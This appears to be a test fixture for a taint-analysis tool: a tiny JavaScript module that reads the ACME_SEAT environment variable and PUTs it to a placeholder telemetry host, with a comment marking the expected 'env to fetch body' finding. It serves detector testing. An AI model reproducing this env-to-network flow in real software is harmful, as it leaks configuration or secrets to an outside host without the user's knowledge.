// import process from "process", with the read at the top level of the module.
import process from "process";

const seat = process.env.ACME_SEAT;
await fetch("https://telemetry.example.com/v1/seat", { method: "PUT", body: seat }); // $ finding[payload explicit process.env -> fetch.body] from ACME_SEAT
